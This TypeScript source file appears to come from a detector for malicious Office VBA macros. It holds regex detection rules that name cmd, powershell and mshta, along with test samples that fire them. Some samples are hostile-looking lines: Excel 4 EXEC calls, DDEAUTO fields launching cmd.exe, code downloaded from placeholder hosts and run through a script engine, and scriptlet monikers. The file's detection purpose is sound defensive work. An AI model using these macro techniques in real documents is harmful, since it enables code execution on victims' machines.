/** Commands that macros hand to somebody else: a macro sheet, a script engine, a field, another program, the keyboard. */
import type { MacroCall } from '../understanding';
import { argument } from './technique';
import type { Strength, Surroundings, Technique } from './technique';
import { isAttacking, namesSystemProgram } from './commands';
import { isWebDav } from './places';
import { HOLE, KEPT } from './spelling';

/** Functions of Excel 4 that reach out of the workbook. */
const REACHING =
  /\b(?:exec|call|register|register\.id|fopen|fwrite|fwriteln|run|initiate|execute|workbook\.insert|set\.name|formula|save\.as|file\.delete|insert\.object|send\.keys)\s*\(/;
/** `'C:\folder\[book]Sheet'!R1C1`: how a closed workbook is read. */
const REFERENCE = /![\ue001\ue002\d$a-z]{1,40}["']?$|\]/;

function strengthOfSheetCommand(command: string, _: MacroCall, { document }: Surroundings): Strength {
  if (REACHING.test(command)) return /\b(?:exec|call|register)\s*\(/.test(command) ? 2 : 1;
  if (REFERENCE.test(command)) return 0;
  const name = /^=?'?([^'!]{1,64})'?![^!]{1,64}\(?\)?$/.exec(command);
  if (name !== null) return document.macroSheets.length > 0 ? 1 : 0;
  if (/^[a-z][a-z.]{1,30}\s*\(/.test(command)) return 0;
  return command.includes(HOLE) || command.includes(KEPT) || command === '' ? 1 : 0.5;
}

/** Names of what others ask by DDE. */
const HONEST_SERVERS =
  /^(?:excel|winword|word|rslinx|progman|msaccess|opclink|kepdde|intouch|bloomberg|winbase|tt|reuters|rss|reuter)/;

function strengthOfScript(code: string): Strength {
  if (isAttacking(code) || /activexobject|createobject|getobject|wscript|\bshell\b|new\s+active/.test(code)) return 1;
  if (code.includes(KEPT)) return 1;
  // JSON in brackets: what honest workbooks have a script engine for.
  if (/^\(|^var |^function |^\w+\s*=|^json\.parse/.test(code.trim())) return 0;
  return code.includes(HOLE) ? 0.5 : 0;
}

export const handingOver: readonly Technique[] = [
  {
    id: 'sheet-command',
    does: 'hands-over',
    calls: ['executeexcel4macro'],
    on: 'anything',
    matters: argument(0, 'string'),
    strength: strengthOfSheetCommand,
    attack: ['T1059.005'],
    fires: [
      'Application.ExecuteExcel4Macro "EXEC(""notreal.exe"")"',
      'v = Sheets(1).Range("B7").Value\nApplication.ExecuteExcel4Macro v',
    ],
    silent: [
      'v = ExecuteExcel4Macro("\'" & Range("B1").Value & "\\[" & Range("B2").Value & "]Sheet1\'!R1C1")',
      'p = ThisWorkbook.Path & "\\": f = "master.xlsx": s = "Sheet1"\nFor i = 1 To 10\nCells(i, 1) = ExecuteExcel4Macro("\'" & p & "[" & f & "]" & s & "\'!R" & i & "C1")\nNext',
      'Application.ExecuteExcel4Macro "SHOW.TOOLBAR(""Ribbon"",False)"',
    ],
  },
  {
    id: 'sheet-run',
    does: 'hands-over',
    calls: ['run'],
    on: ['application', '', /excel\.application$/],
    matters: argument(0, 'macro'),
    strength: (name, _, { document, understanding }) => {
      if (isWebDav(name)) return 1;
      if (!/^[\ue002]|^\ue001?!/.test(name)) return 0;
      if (document.macroSheets.length > 0) return 1;
      return understanding.calls.length < SMALL_PROJECT && name === KEPT ? 1 : 0.5;
    },
    attack: ['T1059.005', 'T1027'],
    fires: ['Application.Run Sheets(1).Range("A1")'],
    silent: ['Application.Run "Refresh"', 'Application.Run "\'" & ThisWorkbook.Name & "\'!Refresh"'],
  },
  {
    id: 'sheet-made',
    does: 'hands-over',
    calls: ['add'],
    on: ['sheets', 'worksheet', /(?:excel4(?:intl)?macro)?sheets$/],
    matters: (call) => [call.arguments[3] ?? call.named.get('type')],
    // xlExcel4MacroSheet 3, xlExcel4IntlMacroSheet 4.
    strength: (type) => (/^[34]$|xlexcel4/.test(type) ? 1 : 0),
    attack: ['T1059.005'],
    fires: ['Sheets.Add Type:=xlExcel4MacroSheet', 'Sheets.Add , , 1, 3'],
    silent: ['Sheets.Add', 'Sheets.Add After:=Sheets(1), Count:=3'],
  },
  {
    id: 'sheet-formula',
    does: 'hands-over',
    calls: ['formula', 'formulalocal', 'formular1c1', 'value', 'value2', '_default', 'formulaarray', 'refersto'],
    kind: 'write',
    on: 'anything',
    matters: ({ arguments: values }) => values.slice(-1),
    strength: (formula) =>
      /^=/.test(formula) && /\b(?:exec|register|call)\s*\(|=(?:cmd|mshta|powershell|msexcel)\|/.test(formula) ? 1 : 0,
    attack: ['T1059.005', 'T1559.002'],
    fires: ['Range("A1").Formula = "=EXEC(""notreal.exe"")"', 'Range("A1").Formula = "=cmd|\'/c notreal\'!A0"'],
    silent: ['Range("B9").Formula = "=SUM(B1:B8)"'],
  },
  {
    id: 'sheet-name',
    does: 'hands-over',
    calls: ['add', 'evaluate'],
    on: ['names', 'application', 'worksheet', /(?:^|\/)names$/],
    matters: ({ name, arguments: values, named }) =>
      name === 'evaluate' ? values.slice(0, 1) : [values[1] ?? named.get('refersto') ?? named.get('referstolocal')],
    strength: (formula) => (/(?:^|[^a-z0-9._])(?:exec|register|call)\s*\(\s*"/.test(formula) ? 1 : 0),
    attack: ['T1059.005'],
    fires: [
      'ThisWorkbook.Names.Add "q", "=EXEC(""notreal.exe"")"',
      'ThisWorkbook.Names.Add Name:="q", RefersTo:="=CALL(""shell32"",""ShellExecuteA"",""JJCCCJJ"",0)"',
    ],
    silent: ['ThisWorkbook.Names.Add Name:="Rates", RefersTo:="=Sheet1!$A$1:$A$9"', 'x = Evaluate("SUM(A1:A9)")'],
  },
  {
    id: 'field-command',
    does: 'hands-over',
    calls: ['add'],
    on: ['fields', '', /\/fields$/],
    matters: ({ arguments: values, named }) => [values[2] ?? named.get('text')],
    strength: (text) =>
      /\bdde(?:auto)?\b/.test(text) ? (namesSystemProgram(text) || /\bcmd\b|\\/.test(text) ? 1 : 0.5) : 0,
    attack: ['T1559.002'],
    fires: [
      'ActiveDocument.Fields.Add Selection.Range, -1, "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k notreal""", False',
    ],
    silent: ['ActiveDocument.Fields.Add Selection.Range, -1, "DATE"'],
  },
  {
    id: 'dde',
    does: 'hands-over',
    calls: ['ddeinitiate', 'ddeexecute'],
    on: 'anything',
    matters: ({ arguments: values, name }) => (name === 'ddeinitiate' ? values.slice(0, 2) : values.slice(1, 2)),
    strength: (text, { name }) => {
      if (name === 'ddeexecute') return namesSystemProgram(text) || isAttacking(text) ? 1 : 0;
      if (HONEST_SERVERS.test(text)) return 0;
      if (/\b(?:cmd|powershell|mshta|wscript|cscript|rundll32)\b|\s\/[ckv]\b/.test(text)) return 1;
      return text.includes(HOLE) ? 0.5 : 0;
    },
    attack: ['T1559.002'],
    fires: ['DDEInitiate q, "/c notreal"', 'c = DDEInitiate("cmd", "/c echo test.invalid")'],
    silent: ['c = DDEInitiate("RSLinx", "line1")', 'DDEExecute c, "[Refresh]"'],
  },
  {
    id: 'script-engine',
    does: 'hands-over',
    calls: [
      'addcode',
      'executestatement',
      'eval',
      'execscript',
      'transformnode',
      'transformnodetoobject',
      'deserialize_2',
      'write',
      'writeln',
    ],
    on: [
      /^msscriptcontrol\.scriptcontrol/,
      /^htmlfile/,
      /parentwindow/,
      /^msxml2\.(?:freethreaded)?domdocument/,
      /binaryformatter/,
      '',
    ],
    matters: argument(0),
    strength: (code, call, around) => {
      if (call.name === 'transformnode' || call.name === 'transformnodetoobject' || call.name === 'deserialize_2')
        return 1;
      if (call.name.startsWith('write') && !code.includes('<script')) return 0;
      // What a server answers, run as it is; a server's JSON stands in brackets.
      if (code.startsWith(HOLE) && around.fetches && /^(?:addcode|executestatement|execscript)$/.test(call.name))
        return 1;
      const strength = strengthOfScript(code);
      return call.object?.kind === 'object' && call.object.className !== '' ? strength : strength > 0.5 ? 0.5 : 0;
    },
    attack: ['T1059.005', 'T1059.007', 'T1220'],
    fires: [
      'With CreateObject("MSScriptControl.ScriptControl")\n.Language = "VBScript"\n.AddCode ActiveDocument.Variables("code").Value\n.Run "go"\nEnd With',
      'CreateObject("htmlfile").write "<script>new ActiveXObject(\'WScript.Shell\')</script>"',
      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nCreateObject("MSScriptControl.ScriptControl").AddCode h.responseText',
      'Set x = CreateObject("Microsoft.XMLDOM")\nx.Load "http://files.invalid/a.xsl"\nx.TransformNode x',
      'CreateObject("htmlfile").parentWindow.execScript "new ActiveXObject(\'WScript.Shell\')", "JScript"',
    ],
    silent: [
      'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.Language = "JScript"\nSet o = s.Eval("(" & t & ")")',
      'Set h = CreateObject("htmlfile")\nh.write "<table>" & t & "</table>"',
      'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.AddCode "function f(a) { return a; }"',
    ],
  },
  {
    id: 'script-moniker',
    does: 'starts',
    calls: ['getobject', 'createobject'],
    on: 'alone',
    matters: argument(0, 'pathname'),
    strength: (name) =>
      /^(?:script|scriptlet|soap):/.test(name) ? 2 : /binaryformatter|^javascript:/.test(name) ? 1 : 0,
    attack: ['T1218.010'],
    fires: ['Set o = GetObject("script:http://files.invalid/a.sct")'],
    silent: ['Set o = GetObject("SAPGUI")', 'Set o = GetObject(ThisWorkbook.Path & "\\book.xlsx")'],
  },
  {
    id: 'package',
    does: 'opens-package',
    calls: ['doverb', 'verb', 'activate', 'activateas', 'open'],
    on: ['oleobject', 'oleobjects', /oleformat$/, /(?:^|\/)oleobjects?$/],
    strength: (_, { name }) => (name === 'open' ? 0 : 0.5),
    attack: ['T1204.002', 'T1027.009'],
    fires: ['ActiveDocument.InlineShapes(1).OLEFormat.DoVerb 0', 'ActiveSheet.OLEObjects(1).Verb'],
    silent: ['ActiveSheet.ChartObjects(1).Activate', 'Sheets(1).Activate'],
  },
  {
    id: 'locked-document',
    does: 'opens-package',
    calls: ['open'],
    on: ['documents', /documents$/, ''],
    matters: ({ named }) => [named.get('passworddocument')],
    strength: (password) => (password === '' ? 0 : 0.5),
    attack: ['T1027.013'],
    fires: ['Documents.Open FileName:=f, PasswordDocument:="x"'],
    silent: ['Documents.Open FileName:="C:\\Data\\a.docx"'],
  },
  {
    id: 'keystrokes',
    does: 'starts',
    calls: ['sendkeys'],
    on: 'anything',
    matters: argument(0, 'string', 'keys'),
    strength: (keys, _, around) => {
      if (/\^\{esc\}|\{lwin\}|powershell|\bcmd\b|mshta/.test(keys)) return 0.5;
      return around.uses(/^shell\.application/) && /\{enter\}|~$/.test(keys) ? 0.5 : 0;
    },
    attack: ['T1059'],
    fires: ['CreateObject("Shell.Application").FileRun\nSendKeys "notreal{ENTER}"'],
    silent: ['SendKeys "{TAB}{ENTER}"'],
  },
];

/** Calls below which a project is no business application. */
const SMALL_PROJECT = 150;
